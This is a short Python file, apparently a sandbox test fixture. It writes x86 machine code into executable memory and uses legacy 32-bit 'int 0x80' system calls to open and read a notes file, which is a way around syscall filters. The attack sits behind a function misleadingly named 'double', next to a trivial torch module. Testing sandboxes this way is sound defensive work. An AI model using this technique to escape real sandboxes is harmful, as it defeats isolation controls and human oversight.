"""Opens a file by the call numbers of 32-bit programs."""

import ctypes
import mmap
import torch

SCENE = "@SCENE@"


def attack():
    code = mmap.mmap(-1, 4096, flags=0x22 | 0x40, prot=7)  # MAP_32BIT, so that pointers fit
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    path = (SCENE + "/home/notes.txt").encode() + b"\0"
    code[1024 : 1024 + len(path)] = path
    # push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; mov edx, 60; int 0x80; pop rbx; ret
    code[:16] = bytes.fromhex("5389f889f389d1ba3c000000cd805bc3")
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)
    opened = call(5, address + 1024, 0)
    got = call(3, opened, address + 2048)
    return f"{opened} {got} {code[2048:2100]}"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
